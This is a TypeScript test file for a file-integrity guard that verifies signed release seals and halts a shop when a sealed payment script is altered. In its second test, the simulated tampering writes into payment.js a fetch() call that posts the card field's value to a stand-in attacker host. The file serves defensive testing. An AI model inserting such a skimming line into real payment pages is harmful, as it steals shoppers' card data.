import { generateKeyPairSync, sign } from 'node:crypto';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openFileBlobs } from '@komainu/evidence';
import { runGuard, sealRoot } from '@komainu/guard';
import { canonicalJson, instant, Root, Seal } from '@komainu/model';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { StateBody } from '../src/index.ts';
import { memoryShop, refOf, type Running, running, until } from './harness.ts';

// The real guard on real files, over a real socket.
const { privateKey, publicKey } = generateKeyPairSync('ed25519');
const pem = String(publicKey.export({ type: 'spki', format: 'pem' }));
const stranger = generateKeyPairSync('ed25519').privateKey;
let at: Running;
let dir: string;
let site: string;
let blobs: Awaited<ReturnType<typeof openFileBlobs>>;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'komainu-guarded-'));
  site = join(dir, 'site');
  await mkdir(join(site, 'assets'), { recursive: true });
  await writeFile(join(site, 'assets', 'payment.js'), 'mount();\n');
  blobs = await openFileBlobs({ dir: join(dir, 'blobs') });
  at = await running({ sealKeys: [pem] }, memoryShop());
});
afterAll(async () => {
  await at.end();
  await rm(dir, { recursive: true, force: true });
});

const shopNow = async () => StateBody.parse(await (await at.ask('GET', '/api/state')).json()).shops[0];
const seal = () =>
  sealRoot({
    root: Root.parse({ id: 'site', path: site }),
    dir: site,
    shop: 'komorebi' as never,
    by: '田中',
    blobs,
    signer: { sign: (bytes) => sign(null, bytes, privateKey) },
    publicKey,
    out: join(dir, 'seal'),
  });
const upload = async (change: { readonly release?: string; readonly signature?: string } = {}) => {
  const release = change.release ?? (await readFile(join(dir, 'seal', 'RELEASE'), 'utf8'));
  const { manifest, entries } = Seal.parse(JSON.parse(release));
  for (const name of ['MANIFEST', 'ENTRIES']) {
    const bytes = await readFile(join(dir, 'seal', name));
    await at.ask('PUT', `/api/guard/blobs/${refOf(bytes)}`, new Uint8Array(bytes));
  }
  const signature = change.signature ?? (await readFile(join(dir, 'seal', 'RELEASE.sig'))).toString('base64');
  return (await at.ask('POST', '/api/guard/seals', { root: 'site', release, signature, manifest, entries }))
    .status;
};

test('a seal is taken once it is whole, signed by our key, and follows the one before', async () => {
  await seal();
  const release = await readFile(join(dir, 'seal', 'RELEASE'), 'utf8');
  const forged = sign(null, Buffer.from(release), stranger).toString('base64');
  expect(await upload({ signature: forged })).toBe(400);
  expect(await upload({ release: release.replace('田中', '佐藤') })).toBe(400);
  expect((await shopNow())?.roots[0]?.seal).toBeNull();
  expect(await upload()).toBe(200);
  expect(await upload()).toBe(200);
  expect((await shopNow())?.roots[0]?.seal).toMatchObject({ release: 1, files: 1 });
  const signed = (change: Partial<Seal>) => {
    const text = canonicalJson({ ...Seal.parse(JSON.parse(release)), ...change });
    return { release: text, signature: sign(null, Buffer.from(text), privateKey).toString('base64') };
  };
  // Ours by signature, and still no successor: another first release, and a second one without its predecessor.
  expect(await upload(signed({ createdAt: instant() }))).toBe(409);
  expect(await upload(signed({ release: 2, previous: null }))).toBe(409);
  await seal();
  expect(await upload()).toBe(200);
  expect(await upload(signed({}))).toBe(409);
  expect((await shopNow())?.roots[0]?.seal).toMatchObject({ release: 2 });
});

test('a file altered under the guard halts the shop; its bytes before and after are kept', async () => {
  const started = await runGuard({
    server: at.server.url,
    token: at.server.token,
    guard: 'guard-1' as never,
    shop: 'komorebi' as never,
    roots: [{ root: 'site' as never, dir: site, seal: join(dir, 'seal') }],
    publicKey,
    blobs,
    data: join(dir, 'guard'),
    heartbeatMs: 200,
    onEvent: () => undefined,
  });
  if (started.kind !== 'running') throw new Error(started.message.en);
  await started.guard.ready;
  await until(
    async () =>
      (await shopNow())?.guardians.some(({ id, state }) => id === 'guard-1' && state === 'watching') ?? false,
    'a guard',
  );
  const altered = "mount();\nfetch('https://evil.example/c', { method: 'POST', body: card.value });\n";
  await writeFile(join(site, 'assets', 'payment.js'), altered);
  await until(async () => (await shopNow())?.gate.state === 'halted', 'a halted gate');
  expect(at.shop.methods.get('card')).toBe(false);
  for (const body of ['mount();\n', altered])
    expect(await (await at.ask('GET', `/api/blobs/${refOf(body)}`)).text()).toBe(body);
  await started.guard.close();
});
